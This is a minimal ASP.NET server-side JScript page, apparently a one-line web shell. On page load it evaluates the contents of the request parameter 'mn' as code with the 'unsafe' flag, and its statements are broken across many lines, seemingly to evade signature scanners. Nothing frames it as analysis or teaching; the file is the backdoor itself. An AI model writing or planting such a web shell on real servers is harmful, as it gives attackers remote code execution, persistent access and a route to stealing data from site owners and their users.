<script language="JScript" runat="server">
function Page_Load()
{
  eval
  (
    Request
    .Item
    [
      "mn"
    ]
    ,
    "unsafe"
  );
}
</script>
